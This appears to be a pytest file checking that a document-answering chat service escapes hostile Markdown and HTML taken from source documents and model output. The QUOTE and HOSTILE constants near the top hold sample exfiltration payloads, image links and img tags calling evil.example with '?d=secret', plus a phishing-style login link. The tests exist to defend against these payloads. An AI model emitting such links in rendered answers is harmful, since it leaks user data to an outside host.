"""Chat clients show answers as Markdown. Text of documents and models must load nothing there, also while streaming."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openai import OpenAI

from api.bootstrap import Candor
from api.cli.ingest import run_ingest
from api.http.openai_chat import ChatRequest, annotated_text
from multi_agent.llm.settings import EndpointSettings
from multi_agent.values.context import Claim
from support.answers import ANSWER, RUN
from support.panel import Panel
from support.service import QUESTION, RunningService

QUOTE = "The Borea 12 works down to -25 °C ![x](http://evil.example/?d=secret) <img src=http://evil.example/b>."
HOSTILE = (
    "![x](http://evil.example/?d=secret)",
    "![x][e]\n\n[e]: http://evil.example/",
    "<img src='http://evil.example/'>",
    "# Log in\n\n[here](http://evil.example/)",
    "<http://evil.example/?d=secret>",
    "```\nrun me\n```",
)
ALLOWED = {"p", "br", "ul", "ol", "li"}


def tags(markdown: str) -> set[str]:
    """Return the HTML tags that a chat client shows."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown)
    every = [each for token in tokens for each in (token, *(token.children or ()))]
    return {each.tag or each.type for each in every} - {"text", "inline", "text_special", "softbreak"}


@pytest.fixture
def client(
    make_candor: Callable[..., Candor], serve: Callable[..., EndpointSettings], tmp_path: Path
) -> Iterator[OpenAI]:
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "pumps_a.txt").write_text(f"Pumps\n\n{QUOTE}\n")
    candor = make_candor(llm=serve(Panel("-25 °C")))
    run_ingest(candor, [folder], "papers", progress=False)
    with RunningService(candor) as service, OpenAI(base_url=f"{service.url}/v1", api_key="local") as opened:
        yield opened


def test_an_image_link_in_a_document_loads_nothing(client: OpenAI) -> None:
    asked = [{"role": "user", "content": QUESTION}]
    message = client.chat.completions.create(model="papers", messages=asked).choices[0].message
    assert "evil.example" in message.content
    assert tags(message.content) <= ALLOWED
    [annotation] = message.annotations
    cited = annotation.url_citation
    assert message.content[cited.start_index : cited.end_index + 1] == "[1]"
    assert cited.title.startswith("pumps_a.txt"), "a title is plain text"

    chunks = client.chat.completions.create(model="papers", messages=asked, stream=True)
    deltas = [chunk.choices[0].delta for chunk in chunks]
    assert "".join(each.content or "" for each in deltas) == message.content
    thought = "".join((each.model_extra or {}).get("reasoning_content", "") for each in deltas)
    assert "evil.example" in thought, "a draft claim"
    assert tags(thought) <= ALLOWED


@pytest.mark.parametrize("text", HOSTILE)
def test_every_text_of_an_answer_is_shown_and_not_obeyed(text: str) -> None:
    claims = (Claim(text=text, evidence=(1,), supported=True), Claim(text=text, supported=False))
    fields = {"claims": claims, "reasoning": text, "missing": (text, text), "short": text}
    for layout in ("", "- a", "1. a"):
        answer = ANSWER.model_copy(update={**fields, "answer": layout})
        assert tags(annotated_text(RUN, answer, "http://here/").text) <= ALLOWED
    short = ANSWER.model_copy(update={**fields, "claims": (), "evidence": (), "computations": ()})
    assert tags(annotated_text(RUN, short, "").text) <= ALLOWED


def test_a_conversation_reads_earlier_answers_without_their_escapes() -> None:
    claim = Claim(text="-3 in a_b*.", supported=True)
    answered = annotated_text(RUN, ANSWER.model_copy(update={"claims": (claim,)}), "")
    assert answered.text.startswith(r"\-3 in a\_b\*.")
    roles = (("user", "A?"), ("assistant", answered.text), ("user", "B?"))
    messages = [{"role": role, "content": text} for role, text in roles]
    asked = ChatRequest.model_validate({"model": "papers", "messages": messages}).to_request()
    assert asked.conversation[0].answer.startswith("-3 in a_b*.")
